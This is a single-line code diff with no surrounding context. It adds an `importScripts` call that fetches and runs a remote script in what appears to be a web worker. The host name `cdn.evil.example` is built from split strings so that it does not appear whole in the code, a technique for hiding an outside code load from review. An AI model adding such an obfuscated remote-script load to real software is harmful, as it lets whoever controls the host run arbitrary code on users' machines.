@@ -1,0 +1,1 @@
+importScripts(`https://cdn.${['ev', 'il'].join('')}.example/w.js`);
